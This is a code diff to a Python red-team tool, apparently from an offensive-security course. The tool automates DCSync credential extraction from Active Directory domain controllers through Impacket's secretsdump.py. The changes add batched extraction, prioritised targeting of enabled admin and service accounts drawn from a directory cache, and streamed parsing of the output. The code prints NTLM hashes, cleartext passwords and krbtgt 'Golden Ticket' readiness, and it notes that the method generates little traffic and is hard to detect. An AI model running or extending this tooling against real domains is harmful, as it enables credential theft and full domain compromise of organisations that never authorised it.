@@ -5,12 +5,21 @@ OPSEC: Generates minimal replication traffic. Each user produces
 one DRSGetNCChanges request — much harder to detect than a full dump.
 """
 
+import os
 import subprocess
+import threading
+from collections import deque
 from pathlib import Path
 from typing import Dict, List
 
 from ..core.auth import AuthBuilder
-from ..core.parser import SecretsDumpParser
+from ..core.parser import SecretsDumpIndex
+
+try:
+    from rt_directory_cache import ACCOUNTDISABLE, attr_value, attr_values
+except ImportError:
+    # Shared cache package in 14-ad-enumeration/ (only needed with a cache)
+    ACCOUNTDISABLE = attr_value = attr_values = None
 
 
 class TargetedDCSync:
@@ -22,14 +31,22 @@ class TargetedDCSync:
         "exchange", "adfs", "aad", "sccm",
     ]
 
-    def __init__(self, auth: AuthBuilder, output_dir: Path):
+    USER_TIMEOUT = 60
+
+    def __init__(self, auth: AuthBuilder, output_dir: Path, cache=None):
         self.auth = auth
         self.output_dir = output_dir
-        self.parser = SecretsDumpParser()
+        self.index = SecretsDumpIndex()
 
-    def extract(self, target_users: List[str]) -> Dict[str, dict]:
+        # rt_directory_cache.DirectoryCache: real account names instead of guesses
+        self.cache = cache
+
+    def extract(self, target_users: List[str], batch: bool = False) -> Dict[str, dict]:
         """
         DCSync specific accounts. Returns dict mapping username → parsed creds.
+
+        With batch=True all targets go through a single secretsdump.py run
+        (-usersfile); output is indexed once and every target looked up.
         """
         print(f"\n{'=' * 60}")
         print("TARGETED DCSYNC — SURGICAL EXTRACTION")
@@ -43,20 +60,47 @@ class TargetedDCSync:
         if not auth_args:
             return results
 
-        for user in target_users:
-            parsed = self._extract_user(user, auth_args)
-            if parsed:
+        if batch:
+            for user, parsed in self._extract_batch(target_users, auth_args).items():
                 results[user] = parsed
                 self._print_result(user, parsed)
+        else:
+            for user in target_users:
+                parsed = self._extract_user(user, auth_args)
+                if parsed:
+                    results[user] = parsed
+                    self._print_result(user, parsed)
 
         print(f"\n[+] Targeted DCSync complete: {len(results)}/{len(target_users)} extracted")
         return results
 
-    def extract_high_value(self) -> Dict[str, dict]:
-        """DCSync the most operationally valuable accounts."""
+    def extract_high_value(self, batch: bool = False, max_targets: int = 0) -> Dict[str, dict]:
+        """
+        DCSync the most operationally valuable accounts.
+
+        krbtgt and Administrator are always targeted. Admin and service
+        accounts from the directory cache are listed as candidates and
+        only the first max_targets of them are added: every account is
+        one more replication request.
+        """
         print("\n[*] Targeting high-value accounts...")
 
         hv_targets = ["krbtgt", "Administrator"]
+
+        cached = [user for user in self.cached_high_value()
+                  if user.lower() not in ("krbtgt", "administrator")]
+        if cached:
+            hv_targets += cached[:max_targets]
+            print(f"[*] Priority targets: {hv_targets}")
+
+            remaining = cached[max_targets:]
+            if remaining:
+                print(f"[*] {len(remaining)} more candidates in the directory cache "
+                      f"(adminCount=1 first, then SPN accounts):")
+                print(f"    {', '.join(remaining[:20])}{', ...' if len(remaining) > 20 else ''}")
+                print(f"[*] TIP: Pick them with -t, or raise --max-targets")
+            return self.extract(hv_targets, batch=batch)
+
         common_svc = [
             "svc_sql", "svc_backup", "svc_exchange", "svc_adfs",
             "svc_sccm", "svc_web", "sqlservice", "backupadmin",
@@ -66,7 +110,27 @@ class TargetedDCSync:
         print(f"[*] Common service accounts to try: {common_svc}")
         print(f"[*] TIP: Use Day 22 enumeration data for actual account names")
 
-        return self.extract(hv_targets)
+        return self.extract(hv_targets, batch=batch)
+
+    def cached_high_value(self) -> List[str]:
+        """
+        Enabled accounts from the directory cache that are worth a
+        replication request: adminCount=1, then service accounts (SPNs)
+        """
+        domain = self.auth.domain
+        if self.cache is None or not self.cache.has(domain, "users"):
+            return []
+
+        admins, services = [], []
+        for _, attributes in self.cache.sync(domain, "users"):
+            if int(str(attr_value(attributes, "userAccountControl", 0))) & ACCOUNTDISABLE:
+                continue
+            name = str(attr_value(attributes, "sAMAccountName"))
+            if str(attr_value(attributes, "adminCount", 0)) == "1":
+                admins.append(name)
+            elif attr_values(attributes, "servicePrincipalName"):
+                services.append(name)
+        return sorted(admins) + sorted(services)
 
     def is_high_value(self, username: str) -> bool:
         return any(kw in username.lower() for kw in self.HIGH_VALUE_KEYWORDS)
@@ -81,28 +145,81 @@ class TargetedDCSync:
             "-outputfile", output_prefix,
         ]
 
-        try:
-            result = subprocess.run(
-                cmd, capture_output=True, text=True, timeout=60
-            )
+        if self._run_secretsdump(cmd, user, self.USER_TIMEOUT):
+            return self.index.get(user)
+        return {}
 
-            if result.returncode == 0 and result.stdout:
-                return self.parser.parse_user(result.stdout, user)
+    def _extract_batch(self, target_users: List[str], auth_args: List[str]) -> Dict[str, dict]:
+        """Run secretsdump.py once for all users via -usersfile."""
+        print(f"\n[*] DCSync batch: {len(target_users)} targets in one run")
 
-            print(f"    [-] Failed — check permissions")
-            if "rpc_s_access_denied" in str(result.stderr).lower():
-                print(f"    [-] Access denied — account lacks DCSync rights")
-            elif result.stderr:
-                print(f"    [-] Error: {result.stderr[:200]}")
+        users_file = self.output_dir / "dcsync_targets.txt"
+        users_file.write_text("\n".join(target_users) + "\n")
 
+        cmd = ["secretsdump.py"] + auth_args + [
+            "-just-dc",
+            "-usersfile", str(users_file),
+            "-outputfile", str(self.output_dir / "dcsync_batch"),
+        ]
+
+        timeout = self.USER_TIMEOUT * max(1, len(target_users))
+        if self._run_secretsdump(cmd, "batch", timeout):
+            return self.index.get_many(target_users)
+        return {}
+
+    def _run_secretsdump(self, cmd: List[str], label: str, timeout: int) -> bool:
+        """
+        Run secretsdump.py, indexing stdout line by line as it arrives.
+
+        Returns True on a clean exit.
+        """
+        diagnostics = deque(maxlen=20)
+        # Impacket is Python — keep its stdout unbuffered so lines stream
+        env = dict(os.environ, PYTHONUNBUFFERED="1")
+
+        try:
+            proc = subprocess.Popen(
+                cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
+                text=True, bufsize=1, env=env,
+            )
         except FileNotFoundError:
             print("[-] secretsdump.py not found — install Impacket")
-        except subprocess.TimeoutExpired:
-            print(f"    [-] Timeout for {user}")
+            return False
         except Exception as e:
             print(f"    [-] Error: {e}")
+            return False
 
-        return {}
+        timed_out = threading.Event()
+
+        def _kill():
+            timed_out.set()
+            proc.kill()
+
+        watchdog = threading.Timer(timeout, _kill)
+        watchdog.start()
+        try:
+            for line in proc.stdout:
+                if self.index.feed(line) is None and line.strip():
+                    diagnostics.append(line.strip())
+            returncode = proc.wait()
+        finally:
+            watchdog.cancel()
+            proc.stdout.close()
+
+        if timed_out.is_set():
+            print(f"    [-] Timeout for {label}")
+            return False
+
+        if returncode == 0:
+            return True
+
+        print("    [-] Failed — check permissions")
+        errors = "\n".join(diagnostics)
+        if "rpc_s_access_denied" in errors.lower():
+            print(f"    [-] Access denied — account lacks DCSync rights")
+        elif errors:
+            print(f"    [-] Error: {errors[-200:]}")
+        return False
 
     @staticmethod
     def _print_result(user: str, parsed: dict):
@@ -117,4 +234,6 @@ class TargetedDCSync:
             print(f"    [!] Golden Ticket: READY")
 
         print(f"    [+] NTLM: {parsed.get('ntlm', 'N/A')}")
-        print(f"    [+] RID:  {parsed.get('rid', 'N/A')}")
\ No newline at end of file
+        print(f"    [+] RID:  {parsed.get('rid', 'N/A')}")
+        if parsed.get("cleartext"):
+            print(f"    [!] CLEARTEXT: {parsed['cleartext']}")
\ No newline at end of file